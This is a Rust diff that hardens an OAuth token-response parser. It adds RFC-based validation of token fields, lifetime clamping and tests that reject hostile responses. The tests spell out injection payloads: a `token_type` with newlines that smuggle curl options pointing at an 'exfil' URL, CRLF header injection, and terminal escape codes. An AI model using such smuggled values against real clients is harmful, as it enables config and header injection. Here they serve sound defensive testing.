@@ -29,7 +29,15 @@ pub enum Parsed {
     Unreadable(String),
     /// A readable body with neither `access_token` nor `error`.
     NoToken,
+    /// A token response with a value that must not reach a header, a file
+    /// or a terminal (control characters, a token outside RFC 6750's
+    /// b64token...): says which field, never its content.
+    Invalid(String),
 }
+
+/// The longest lifetime believed; anything longer is clamped to it. Ten
+/// years is far beyond any real token and far below any overflow.
+pub const MAX_LIFETIME_SECS: u64 = 10 * 365 * 24 * 3600;
 
 /// Parses a token-endpoint body. JSON first, then form-encoding (GitHub's
 /// classic endpoint without `Accept: application/json`).
@@ -51,10 +59,12 @@ pub fn parse(content_type: &str, body: &[u8]) -> Parsed {
     let Some(access_token) = string_field(&fields, "access_token").filter(|t| !t.is_empty()) else {
         return Parsed::NoToken;
     };
-    Parsed::Token(TokenResponse {
+    let token = TokenResponse {
         access_token: Secret::new(access_token),
-        token_type: string_field(&fields, "token_type").filter(|t| !t.is_empty()),
-        expires_in: number_field(&fields, "expires_in"),
+        token_type: string_field(&fields, "token_type")
+            .map(|t| t.trim().to_owned())
+            .filter(|t| !t.is_empty()),
+        expires_in: lifetime_field(&fields, "expires_in"),
         refresh_token: string_field(&fields, "refresh_token")
             .filter(|t| !t.is_empty())
             .map(Secret::new),
@@ -62,7 +72,98 @@ pub fn parse(content_type: &str, body: &[u8]) -> Parsed {
             .filter(|t| !t.is_empty())
             .map(Secret::new),
         scope: scope_field(&fields),
-    })
+    };
+    match validate(&token) {
+        Ok(()) => Parsed::Token(token),
+        Err(what) => Parsed::Invalid(what),
+    }
+}
+
+/// Everything a token response carries is checked before it can reach a
+/// curl config, a header, a shell `export` or a terminal.
+fn validate(token: &TokenResponse) -> Result<(), String> {
+    if let Some(token_type) = &token.token_type
+        && !is_token_type(token_type)
+    {
+        return Err("a token_type that is not a token-type word (RFC 6749 §7.1)".to_owned());
+    }
+    let token_type = normalize_token_type(token.token_type.as_deref());
+    check_access_token(&token_type, token.access_token.expose())?;
+    if let Some(refresh) = &token.refresh_token
+        && !is_vschar(refresh.expose())
+    {
+        return Err(
+            "a refresh_token with characters outside RFC 6749's VSCHAR (control characters or non-ASCII)"
+                .to_owned(),
+        );
+    }
+    if let Some(id_token) = &token.id_token
+        && !id_token.expose().chars().all(is_b64token_char)
+    {
+        return Err(
+            "an id_token that is not a JWT (characters outside base64url and `.`)".to_owned(),
+        );
+    }
+    if let Some(scope) = &token.scope
+        && !scope.split(' ').all(|s| s.chars().all(is_nqchar))
+    {
+        return Err("a scope with characters outside RFC 6749's NQCHAR".to_owned());
+    }
+    Ok(())
+}
+
+/// An access token fit for `Authorization: TYPE TOKEN`: RFC 6750's
+/// `b64token` for Bearer and DPoP, visible ASCII without spaces, quotes or
+/// backslashes for other types. Also used on stored tokens before output.
+pub fn check_access_token(token_type: &str, token: &str) -> Result<(), String> {
+    if token.is_empty() {
+        return Err("an empty access_token".to_owned());
+    }
+    let fits = if token_type == "Bearer" || token_type == "DPoP" {
+        is_b64token(token)
+    } else {
+        token
+            .chars()
+            .all(|c| c.is_ascii_graphic() && c != '"' && c != '\\')
+    };
+    if fits && is_token_type(token_type) {
+        Ok(())
+    } else if !is_token_type(token_type) {
+        Err("a token_type that is not a token-type word (RFC 6749 §7.1)".to_owned())
+    } else {
+        Err(format!(
+            "an access_token with characters a {token_type} token cannot have (RFC 6750 b64token)"
+        ))
+    }
+}
+
+/// RFC 6750 §2.1: `1*( ALPHA / DIGIT / "-" / "." / "_" / "~" / "+" / "/" ) *"="`.
+fn is_b64token(token: &str) -> bool {
+    let body = token.trim_end_matches('=');
+    !body.is_empty() && body.chars().all(is_b64token_char)
+}
+
+fn is_b64token_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '~' | '+' | '/')
+}
+
+/// RFC 6749 §7.1 / Appendix A.7: `type-name = 1*name-char`.
+fn is_token_type(word: &str) -> bool {
+    !word.is_empty()
+        && word.len() <= 64
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
+}
+
+/// RFC 6749 Appendix A: `VSCHAR = %x20-7E`.
+fn is_vschar(text: &str) -> bool {
+    text.chars().all(|c| (' '..='~').contains(&c))
+}
+
+/// RFC 6749 Appendix A: `NQCHAR = %x21 / %x23-5B / %x5D-7E`.
+fn is_nqchar(c: char) -> bool {
+    matches!(c, '!' | '#'..='[' | ']'..='~')
 }
 
 /// Only an error body, for endpoints other than the token endpoint.
@@ -114,19 +215,40 @@ fn string_field(fields: &Map<String, Value>, key: &str) -> Option<String> {
     }
 }
 
-/// `3599`, `"3599"`, `3599.0` all mean 3599 s; nonsense means "unknown".
-fn number_field(fields: &Map<String, Value>, key: &str) -> Option<u64> {
-    match fields.get(key)? {
-        Value::Number(n) => n
-            .as_u64()
-            .or_else(|| n.as_f64().filter(|f| *f >= 0.0).map(|f| f as u64)),
-        Value::String(s) => s
-            .trim()
-            .parse::<f64>()
-            .ok()
-            .filter(|f| *f >= 0.0)
-            .map(|f| f as u64),
+/// `3599`, `"3599"`, `3599.0` all mean 3599 s. Zero, negative, NaN, infinite
+/// or not a number means "expires now" (so it is renewed, never trusted
+/// forever); absurdly long lifetimes are clamped with a warning. `None` only
+/// when the field is absent (or null): the provider did not say.
+fn lifetime_field(fields: &Map<String, Value>, key: &str) -> Option<u64> {
+    let seconds = match fields.get(key)? {
+        Value::Null => return None,
+        Value::Number(n) => n.as_f64(),
+        Value::String(s) => s.trim().parse::<f64>().ok(),
         _ => None,
+    };
+    Some(clamp_lifetime(key, seconds))
+}
+
+/// See [`lifetime_field`]; `None` is "not a number".
+pub fn clamp_lifetime(key: &str, seconds: Option<f64>) -> u64 {
+    match seconds {
+        Some(s) if s.is_finite() && s >= 1.0 => {
+            if s > MAX_LIFETIME_SECS as f64 {
+                log::warn!(
+                    "the provider's {key} of {s:e} s is absurd: treating it as {} years",
+                    MAX_LIFETIME_SECS / (365 * 24 * 3600)
+                );
+                MAX_LIFETIME_SECS
+            } else {
+                s as u64
+            }
+        }
+        _ => {
+            log::warn!(
+                "the provider's {key} is not a positive number: treating the token as expiring now"
+            );
+            0
+        }
     }
 }
 
@@ -271,6 +393,77 @@ mod tests {
         );
         assert_eq!(t.scope.as_deref(), Some("a b"));
         assert_eq!(t.expires_in, Some(3600));
+    }
+
+    fn invalid(body: &str) -> String {
+        match parse("application/json", body.as_bytes()) {
+            Parsed::Invalid(what) => what,
+            other => panic!("accepted a hostile response: {other:?}"),
+        }
+    }
+
+    #[test]
+    fn token_type_with_a_newline_cannot_inject_curl_options() {
+        let what = invalid(
+            r#"{"access_token":"abc","token_type":"Bearer X\nurl = http://127.0.0.2/exfil\noutput = /tmp/x\n#"}"#,
+        );
+        assert!(what.contains("token_type"), "{what}");
+    }
+
+    #[test]
+    fn access_token_outside_b64token_is_refused() {
+        for token in [
+            "abc\ndef",
+            "abc\r\nX-Injected: 1",
+            "a b",
+            "tok\"en",
+            "\u{1b}[31m",
+            "==",
+            "té",
+        ] {
+            let body =
+                serde_json::json!({"access_token": token, "token_type": "bearer"}).to_string();
+            assert!(invalid(&body).contains("access_token"), "{token:?}");
+        }
+        // b64token proper, with padding: fine.
+        let t = token(
+            r#"{"access_token":"a-b.c_d~e+f/g==","token_type":"bearer"}"#,
+            "",
+        );
+        assert_eq!(t.access_token.expose(), "a-b.c_d~e+f/g==");
+    }
+
+    #[test]
+    fn control_characters_in_other_fields_are_refused() {
+        assert!(
+            invalid(r#"{"access_token":"a","refresh_token":"r\u0000x"}"#).contains("refresh_token")
+        );
+        assert!(invalid(r#"{"access_token":"a","id_token":"x.y\n.z"}"#).contains("id_token"));
+        assert!(invalid(r#"{"access_token":"a","scope":"read\u001b[2J"}"#).contains("scope"));
+    }
+
+    #[test]
+    fn absurd_lifetimes_are_clamped_and_nonsense_expires_now() {
+        let lifetime =
+            |v: &str| token(&format!(r#"{{"access_token":"a","expires_in":{v}}}"#), "").expires_in;
+        assert_eq!(lifetime("18446744073709551616"), Some(MAX_LIFETIME_SECS));
+        assert_eq!(lifetime("1e19"), Some(MAX_LIFETIME_SECS));
+        assert_eq!(lifetime("1e308"), Some(MAX_LIFETIME_SECS));
+        assert_eq!(lifetime(r#""1e19""#), Some(MAX_LIFETIME_SECS));
+        for now in [
+            r#""inf""#,
+            r#""NaN""#,
+            "-5",
+            "0",
+            r#""soon""#,
+            "true",
+            r#""""#,
+            "0.5",
+        ] {
+            assert_eq!(lifetime(now), Some(0), "{now}");
+        }
+        assert_eq!(lifetime("null"), None);
+        assert_eq!(lifetime("3599.9"), Some(3599));
     }
 
     #[test]
